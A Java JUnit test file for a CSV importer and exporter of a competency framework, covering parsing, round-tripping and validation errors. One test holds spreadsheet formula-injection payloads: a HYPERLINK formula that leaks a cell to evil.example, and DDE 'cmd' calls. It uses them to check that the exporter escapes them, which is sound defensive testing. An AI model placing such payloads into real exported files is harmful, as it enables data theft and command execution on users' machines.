package org.munacademy.competency.control;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.munacademy.competency.entity.CompetencyImportError;
import org.munacademy.competency.entity.CompetencyKind;
import org.munacademy.competency.entity.Framework;
import org.munacademy.competency.entity.Framework.Area;
import org.munacademy.competency.entity.Framework.Competency;
import org.munacademy.competency.entity.Framework.Indicator;
import org.munacademy.competency.entity.Framework.Level;
import org.munacademy.shared.boundary.ErrorTexts;
import org.munacademy.shared.entity.FieldLimits;
import org.munacademy.shared.entity.ImportRejectedException;
import org.munacademy.shared.entity.ImportRejectedException.ImportError;
import org.munacademy.shared.entity.InvalidInputException.FieldError;
import org.munacademy.shared.entity.Location;
import org.munacademy.shared.entity.SharedError;
import org.munacademy.shared.entity.SharedPlace;

class FrameworkCsvTest {

    private static final String HEADER = "record,code,parent,name,description,kind,level\n";

    private static final String VALID = HEADER + """
            SCALE,1,,Базовый,Знает основы и действует по образцу,,
            SCALE,2,,Уверенный,Действует самостоятельно,,
            SCALE,3,,Экспертный,Обучает других,,
            AREA,A,,Личная эффективность,Как сотрудник организует свою работу,,
            COMPETENCY,A1,A,Ориентация на результат,"Достигает целей, а не отчитывается",GENERAL,
            INDICATOR,,A1,Ставит себе измеримые цели,,,1
            INDICATOR,,A1,Доводит начатое до конца,,,1
            INDICATOR,,A1,"Помогает коллегам ставить ""умные"" цели",,,3
            COMPETENCY,A2,A,Коммуникация,,general,
            AREA,B,,Управление,,,
            COMPETENCY,B1,B,Планирование,Составляет планы подразделения,MANAGERIAL,
            INDICATOR,,B1,Планирует работу на год,,,2
            """;

    @Test
    void a_valid_file_reads_into_the_scale_the_areas_their_competencies_and_the_indicators() {
        Framework f = read(VALID);

        assertThat(f.standardCode()).isEqualTo("MUN-COMP");
        assertThat(f.title()).isEqualTo("Модель компетенций");
        assertThat(f.sourceRef()).isEqualTo("Методические рекомендации");
        assertThat(f.effectiveDate()).isEqualTo(LocalDate.of(2025, 1, 1));
        assertThat(f.caseId()).isNull();
        assertThat(f.levels()).containsExactly(
                new Level(1, "Базовый", "Знает основы и действует по образцу", null),
                new Level(2, "Уверенный", "Действует самостоятельно", null),
                new Level(3, "Экспертный", "Обучает других", null));
        assertThat(f.areas()).extracting(Area::code).containsExactly("A", "B");
        assertThat(f.areas().get(0).competencies()).containsExactly(
                new Competency("A1", "Ориентация на результат", "Достигает целей, а не отчитывается",
                        CompetencyKind.GENERAL, null, null, List.of(
                                new Indicator(1, "Ставит себе измеримые цели"),
                                new Indicator(1, "Доводит начатое до конца"),
                                new Indicator(3, "Помогает коллегам ставить \"умные\" цели"))),
                new Competency("A2", "Коммуникация", null, CompetencyKind.GENERAL, null, null, List.of()));
        assertThat(f.competency("B1").indicatorsAt(2)).containsExactly("Планирует работу на год");
    }

    @Test
    void indicators_are_ordered_by_level_and_keep_the_file_order_within_a_level() {
        Framework f = read(HEADER + """
                SCALE,1,,Базовый,,,
                SCALE,2,,Уверенный,,,
                AREA,A,,Личная эффективность,,,
                COMPETENCY,A1,A,Ориентация на результат,,GENERAL,
                INDICATOR,,A1,второй уровень,,,2
                INDICATOR,,A1,первый уровень (а),,,1
                INDICATOR,,A1,первый уровень (б),,,1
                """);

        assertThat(f.competency("A1").indicators()).extracting(Indicator::text)
                .containsExactly("первый уровень (а)", "первый уровень (б)", "второй уровень");
    }

    @Test
    void writing_and_reading_again_gives_the_same_content_without_case_identifiers() {
        Framework original = withCaseIds(read(VALID));

        Framework back = read(FrameworkCsv.write(original));

        assertThat(back).isEqualTo(original.content());
    }

    @Test
    void the_seeded_standard_is_written_back_exactly_as_it_is_stored() throws IOException {
        Path seeded = Path.of("content/competency/mun-comp-v1.csv");
        Assumptions.assumeTrue(Files.exists(seeded), "content/competency/mun-comp-v1.csv is not there yet");
        String text = Files.readString(seeded, StandardCharsets.UTF_8);

        assertThat(FrameworkCsv.write(read(text)).replace("\r\n", "\n")).isEqualTo(text.replace("\r\n", "\n"));
    }

    @Test
    void the_written_file_quotes_only_fields_with_a_comma_or_a_quote_and_turns_line_breaks_into_spaces() {
        Framework f = new Framework("S", "T", null, null, null,
                List.of(new Level(1, "Один", "строка\nвторая строка", null)),
                List.of(new Area("A", "Имя, с запятой", "с \"кавычками\"", null, List.of())));

        String csv = FrameworkCsv.write(f).replace("\r\n", "\n");

        assertThat(csv).isEqualTo(HEADER + """
                SCALE,1,,Один,строка вторая строка,,
                AREA,A,,"Имя, с запятой","с ""кавычками""\",,
                """);
    }

    @Test
    void names_that_a_spreadsheet_would_take_for_formulas_are_written_as_text_and_read_back_unchanged() {
        List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Нажмите\")",
                "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+7 (495) 000-00-00", "-2+3");
        Framework f = new Framework("S", "T", null, null, null, List.of(new Level(1, formulas.get(3), "д", null)),
                List.of(new Area("A", formulas.get(0), formulas.get(4), null, List.of(new Competency("A1",
                        formulas.get(1), null, CompetencyKind.GENERAL, null, null,
                        List.of(new Indicator(1, formulas.get(2))))))));

        String csv = FrameworkCsv.write(f);

        assertThat(csv.lines().skip(1).flatMap(line -> java.util.Arrays.stream(line.split(",")))
                .map(field -> field.startsWith("\"") ? field.substring(1) : field))
                .noneMatch(field -> !field.isEmpty() && "=+-@".indexOf(field.charAt(0)) >= 0);
        assertThat(csv).contains("'=HYPERLINK(", "'=cmd|", "'@SUM(", "'+7 (495)", "'-2+3");
        assertThat(FrameworkCsv.read(new StringReader(csv), "S", "T", null, null)).isEqualTo(f.content());
    }

    @Test
    void a_table_read_by_the_kit_from_a_semicolon_separated_file_reads_like_the_comma_separated_one() {
        String semicolons = VALID.lines().map(line -> line.replace(",", ";"))
                .collect(java.util.stream.Collectors.joining("\n"))
                .replace("\"Достигает целей; а не отчитывается\"", "\"Достигает целей, а не отчитывается\"");

        Framework f = FrameworkCsv.read(org.munacademy.shared.control.Csv.table(semicolons), "MUN-COMP",
                "Модель компетенций", "Методические рекомендации", LocalDate.of(2025, 1, 1));

        assertThat(f).isEqualTo(read(VALID));
    }

    @Test
    void a_file_with_three_faulty_rows_is_refused_with_exactly_those_lines_and_reasons() {
        String csv = HEADER + """
                SCALE,1,,Базовый,,,
                SCALE,2,,Уверенный,,,
                AREA,A,,Личная эффективность,,,
                COMPETENCY,A1,A,Ориентация на результат,,LEADERSHIP,
                INDICATOR,,A1,Ставит цели,,,1
                COMPETENCY,A2,A,Коммуникация,,GENERAL,
                INDICATOR,,A2,Слушает собеседника,,,1
                INDICATOR,,A9,Убеждает,,,2
                AREA,B,,Управление,,,
                COMPETENCY,B1,B,Планирование,,MANAGERIAL,
                INDICATOR,,B1,Планирует работу на год,,,7
                """;

        assertThat(errors(csv)).containsExactly(
                at(line(5), CompetencyImportError.CSV_KIND_UNKNOWN, "LEADERSHIP", "GENERAL, MANAGERIAL, PROFESSIONAL"),
                at(line(9), CompetencyImportError.CSV_COMPETENCY_UNDEFINED, "A9"),
                at(line(12), CompetencyImportError.CSV_LEVEL_OUTSIDE_SCALE, 7, 1, 2));
    }

    @Test
    void the_refusal_names_the_number_of_errors_and_its_code() {
        ImportRejectedException e = catchThrowableOfType(ImportRejectedException.class,
                () -> read(HEADER + "SCALE,1,,,,,\n"));

        assertThat(e.code()).isEqualTo(SharedError.IMPORT_REJECTED);
        assertThat(e.text(ErrorTexts.IN_ENGLISH)).startsWith("Import refused: 1 error(s)");
        assertThat(e.details(ErrorTexts.IN_ENGLISH)).extracting(FieldError::field, FieldError::code,
                FieldError::location, FieldError::message)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("line 2", "CSV_EMPTY", "line 2",
                        "Column \"name\" is empty"));
        assertThat(e.details(ErrorTexts.in(ErrorTexts.RUSSIAN))).extracting(FieldError::field, FieldError::code,
                FieldError::location, FieldError::message)
                .as("the field stays machine-stable, the place and the text are in the reader's language")
                .containsExactly(org.assertj.core.groups.Tuple.tuple("line 2", "CSV_EMPTY", "строка 2",
                        "Столбец «name» пуст"));
    }

    @Test
    void an_unknown_record_type_is_refused() {
        assertThat(errors(scaleAnd("CHAPTER,X,,Глава,,,"))).containsExactly(
                at(line(3), CompetencyImportError.CSV_RECORD_UNKNOWN, "CHAPTER"));
    }

    @Test
    void a_header_without_a_required_column_is_refused_before_any_row_is_read() {
        String csv = """
                record,code,parent,name,description,level
                SCALE,1,,Базовый,,
                CHAPTER,X,,,,
                """;

        assertThat(errors(csv)).containsExactly(
                at(line(1), CompetencyImportError.CSV_COLUMN_MISSING, "kind",
                        "record,code,parent,name,description,kind,level"));
    }

    @Test
    void an_empty_file_is_refused() {
        assertThat(errors("")).containsExactly(at(FILE, CompetencyImportError.CSV_NO_RECORDS,
                "record,code,parent,name,description,kind,level"));
    }

    @Test
    void a_file_without_scale_rows_is_refused() {
        assertThat(errors(HEADER + "AREA,A,,Личная эффективность,,,\n")).containsExactly(
                at(FILE, CompetencyImportError.CSV_NO_SCALE));
    }

    @Test
    void an_area_or_competency_without_a_code_is_refused() {
        assertThat(errors(scaleAnd("AREA,,,Личная эффективность,,,", "COMPETENCY,,A,Коммуникация,,GENERAL,")))
                .containsExactly(at(line(3), CompetencyImportError.CSV_EMPTY, "code"),
                        at(line(4), CompetencyImportError.CSV_EMPTY, "code"),
                        at(line(4), CompetencyImportError.CSV_AREA_UNDEFINED, "A"));
    }

    @Test
    void an_element_without_a_name_is_refused() {
        assertThat(errors(scaleAnd("AREA,A,,,,,", "COMPETENCY,A1,A,,,GENERAL,", "INDICATOR,,A1,,,,1")))
                .containsExactly(at(line(3), CompetencyImportError.CSV_EMPTY, "name"),
                        at(line(4), CompetencyImportError.CSV_EMPTY, "name"),
                        at(line(5), CompetencyImportError.CSV_EMPTY, "name"));
    }

    @Test
    void a_duplicate_area_code_is_refused() {
        assertThat(errors(scaleAnd("AREA,A,,Личная эффективность,,,", "AREA,A,,Управление,,,")))
                .containsExactly(at(line(4), CompetencyImportError.CSV_CODE_REPEATED, "A", 3));
    }

    @Test
    void a_duplicate_competency_code_is_refused_even_when_an_area_has_it() {
        assertThat(errors(scaleAnd("AREA,A,,Личная эффективность,,,", "COMPETENCY,A1,A,Коммуникация,,GENERAL,",
                "COMPETENCY,A1,A,Планирование,,GENERAL,", "COMPETENCY,A,A,Планирование,,GENERAL,")))
                .containsExactly(at(line(5), CompetencyImportError.CSV_CODE_REPEATED, "A1", 4),
                        at(line(6), CompetencyImportError.CSV_CODE_REPEATED, "A", 3));
    }

    @Test
    void a_duplicate_scale_level_is_refused() {
        assertThat(errors(HEADER + "SCALE,1,,Базовый,,,\nSCALE,1,,Уверенный,,,\n")).containsExactly(
                at(line(3), CompetencyImportError.CSV_LEVEL_REPEATED, 1, 2));
    }

    @Test
    void a_scale_level_that_is_not_a_positive_number_is_refused() {
        assertThat(errors(HEADER + "SCALE,1,,Базовый,,,\nSCALE,два,,Уверенный,,,\nSCALE,0,,Ноль,,,\n"))
                .containsExactly(at(line(3), CompetencyImportError.CSV_LEVEL_NUMBER_INVALID, "два"),
                        at(line(4), CompetencyImportError.CSV_LEVEL_NUMBER_INVALID, "0"));
    }

    @Test
    void a_scale_with_a_hole_is_refused_at_the_level_after_the_hole() {
        assertThat(errors(HEADER + "SCALE,1,,Базовый,,,\nSCALE,4,,Экспертный,,,\nSCALE,2,,Уверенный,,,\n"))
                .containsExactly(at(line(3), CompetencyImportError.CSV_SCALE_HOLE, 4, 3));
    }

    @Test
    void a_scale_that_does_not_start_at_one_is_refused() {
        assertThat(errors(HEADER + "SCALE,3,,Экспертный,,,\n")).containsExactly(
                at(line(2), CompetencyImportError.CSV_SCALE_HOLES, 3, 1, 2));
    }

    @Test
    void a_competency_whose_area_comes_later_in_the_file_is_refused() {
        assertThat(errors(scaleAnd("COMPETENCY,A1,A,Коммуникация,,GENERAL,", "AREA,A,,Личная эффективность,,,")))
                .containsExactly(at(line(3), CompetencyImportError.CSV_AREA_UNDEFINED, "A"));
    }

    @Test
    void a_competency_without_an_area_is_refused() {
        assertThat(errors(scaleAnd("COMPETENCY,A1,,Коммуникация,,GENERAL,"))).containsExactly(
                at(line(3), CompetencyImportError.CSV_AREA_EMPTY));
    }

    @Test
    void an_indicator_for_an_unknown_competency_is_refused() {
        assertThat(errors(scaleAnd("INDICATOR,,Z9,Слушает,,,1"))).containsExactly(
                at(line(3), CompetencyImportError.CSV_COMPETENCY_UNDEFINED, "Z9"));
    }

    @Test
    void an_indicator_level_that_is_not_a_number_or_missing_is_refused() {
        assertThat(errors(scaleAnd("AREA,A,,Личная эффективность,,,", "COMPETENCY,A1,A,Коммуникация,,GENERAL,",
                "INDICATOR,,A1,Слушает,,,первый", "INDICATOR,,A1,Убеждает,,,")))
                .containsExactly(at(line(5), CompetencyImportError.CSV_INDICATOR_LEVEL_INVALID, "первый"),
                        at(line(6), CompetencyImportError.CSV_INDICATOR_LEVEL_EMPTY));
    }

    @Test
    void an_indicator_level_outside_the_scale_is_refused() {
        assertThat(errors(scaleAnd("AREA,A,,Личная эффективность,,,", "COMPETENCY,A1,A,Коммуникация,,GENERAL,",
                "INDICATOR,,A1,Слушает,,,0"))).containsExactly(
                at(line(5), CompetencyImportError.CSV_LEVEL_OUTSIDE_SCALE, 0, 1, 1));
    }

    @Test
    void a_missing_kind_is_refused() {
        assertThat(errors(scaleAnd("AREA,A,,Личная эффективность,,,", "COMPETENCY,A1,A,Коммуникация,,,")))
                .containsExactly(
                        at(line(4), CompetencyImportError.CSV_KIND_EMPTY, "GENERAL, MANAGERIAL, PROFESSIONAL"));
    }

    @Test
    void texts_longer_than_their_limits_are_refused() {
        String name = "н".repeat(FieldLimits.TITLE + 1);
        String description = "о".repeat(FieldLimits.DESCRIPTION + 1);
        String indicator = "и".repeat(FieldLimits.INDICATOR + 1);

        assertThat(errors(scaleAnd("AREA,A,," + name + "," + description + ",,",
                "COMPETENCY,A1,A,Коммуникация,,GENERAL,", "INDICATOR,,A1," + indicator + ",,,1")))
                .containsExactly(
                        at(line(3), CompetencyImportError.CSV_TOO_LONG, "name", 501, 500),
                        at(line(3), CompetencyImportError.CSV_TOO_LONG, "description", 2001, 2000),
                        at(line(5), CompetencyImportError.CSV_TOO_LONG, "name", 1001, 1000));
    }

    @Test
    void texts_exactly_at_their_limits_are_accepted() {
        Framework f = read(scaleAnd("AREA,A,," + "н".repeat(FieldLimits.TITLE) + ",,,",
                "COMPETENCY,A1,A,Коммуникация,,GENERAL,", "INDICATOR,,A1," + "и".repeat(FieldLimits.INDICATOR)
                        + ",,,1"));

        assertThat(f.competency("A1").indicators()).hasSize(1);
    }

    @Test
    void an_over_long_code_statement_or_description_is_refused_naming_its_column_and_line() {
        String code = "К".repeat(56);
        String statement = "с".repeat(600);
        String description = "о".repeat(2_500);

        assertThat(errors(scaleAnd("AREA,A,,Личная эффективность,,,",
                "COMPETENCY," + code + ",A,Коммуникация,,GENERAL,",
                "COMPETENCY,A2,A," + statement + "," + description + ",GENERAL,",
                "INDICATOR,,A2,Слушает,,,1")))
                .containsExactly(
                        at(line(4), CompetencyImportError.CSV_TOO_LONG, "code", 56, 40),
                        at(line(5), CompetencyImportError.CSV_TOO_LONG, "name", 600, 500),
                        at(line(5), CompetencyImportError.CSV_TOO_LONG, "description", 2500, 2000));
    }

    @Test
    void a_scale_level_name_longer_than_its_column_is_refused() {
        String csv = HEADER + "SCALE,1,," + "у".repeat(FieldLimits.LEVEL_NAME + 1) + ",Знает основы,,\n"
                + "AREA,A,,Личная эффективность,,,\n";

        assertThat(errors(csv)).containsExactly(at(line(2), CompetencyImportError.CSV_TOO_LONG, "name", 101, 100));
    }

    @Test
    void an_indicator_naming_an_over_long_competency_code_is_refused_for_the_length_only() {
        assertThat(errors(scaleAnd("AREA,A,,Личная эффективность,,,",
                "INDICATOR,,A" + "1".repeat(40) + ",Слушает,,,1")))
                .containsExactly(at(line(4), CompetencyImportError.CSV_TOO_LONG, "parent", 41, 40));
    }

    @Test
    void a_line_break_inside_a_field_is_refused_and_later_lines_keep_their_numbers() {
        String csv = scaleAnd("AREA,A,,\"Личная\nэффективность\",,,", "CHAPTER,X,,,,,");

        assertThat(errors(csv)).containsExactly(
                at(line(3), CompetencyImportError.CSV_LINE_BREAK, "name"),
                at(line(5), CompetencyImportError.CSV_RECORD_UNKNOWN, "CHAPTER"));
    }

    private static String scaleAnd(String... lines) {
        return HEADER + "SCALE,1,,Базовый,,,\n" + String.join("\n", lines) + "\n";
    }

    private static Framework read(String csv) {
        return FrameworkCsv.read(new StringReader(csv), "MUN-COMP", "Модель компетенций",
                "Методические рекомендации", LocalDate.of(2025, 1, 1));
    }

    private static final Location FILE = Location.of(SharedPlace.FILE);

    private static Location line(int number) {
        return Location.of(SharedPlace.LINE, number);
    }

    private static ImportError at(Location where, CompetencyImportError code, Object... args) {
        return ImportError.of(where, code, args);
    }

    private static List<ImportError> errors(String csv) {
        ImportRejectedException e = catchThrowableOfType(ImportRejectedException.class, () -> read(csv));
        assertThat(e).as("the file is refused").isNotNull();
        return e.errors();
    }

    /** The same framework as if it had been stored: every element has a CASE identifier and a predecessor. */
    private static Framework withCaseIds(Framework f) {
        return new Framework(f.standardCode(), f.title(), f.sourceRef(), f.effectiveDate(), "doc-id",
                f.levels().stream().map(l -> new Level(l.number(), l.name(), l.descriptor(), "level-" + l.number()))
                        .toList(),
                f.areas().stream().map(a -> new Area(a.code(), a.name(), a.description(), "area-" + a.code(),
                        a.competencies().stream().map(c -> new Competency(c.code(), c.name(), c.description(),
                                c.kind(), "comp-" + c.code(), "old-" + c.code(), c.indicators())).toList()))
                        .toList());
    }
}
